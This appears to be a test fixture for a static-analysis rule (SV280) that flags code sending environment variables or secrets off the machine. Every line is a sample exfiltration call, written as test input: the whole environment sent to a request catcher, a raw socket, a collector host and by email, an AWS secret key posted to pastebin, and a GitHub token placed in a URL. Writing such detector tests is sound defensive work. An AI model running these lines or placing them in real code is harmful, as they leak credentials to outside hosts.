import json
import os
import smtplib
import socket
import urllib.parse
import urllib.request
import requests as rq

rq.post("https://webhook.site/4f1c", json=dict(os.environ))  # want "SV280: sends the whole environment .* to webhook.site [(]request catcher[)]"
data = urllib.parse.urlencode(os.environ).encode()
urllib.request.urlopen("http://203.0.113.50/c", data)  # want "SV280: sends the whole environment"
payload = {"host": socket.gethostname()}
for k, v in os.environ.items():
    payload[k] = v
body = json.dumps(payload)
session = rq.Session()
session.put("https://collector.example.org/v1", data=body)  # want "SV280: sends the whole environment .* to collector.example.org"
s = socket.socket()
s.connect(("198.51.100.9", 9000))
s.sendall(json.dumps({**os.environ}).encode())  # want "SV280: sends the whole environment"
m = smtplib.SMTP("smtp.example.org")
m.sendmail("a@example.org", ["b@example.org"], str(os.environ.copy()))  # want "SV280: sends the whole environment"
rq.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": os.environ["AWS_SECRET_ACCESS_KEY"]})  # want "SV280: sends environment secret AWS_SECRET_ACCESS_KEY to pastebin.com"
token = os.getenv("GITHUB_TOKEN")
rq.get("https://stats.example.net/ping", params={"t": token})  # want "SV280: sends environment secret GITHUB_TOKEN in the request"
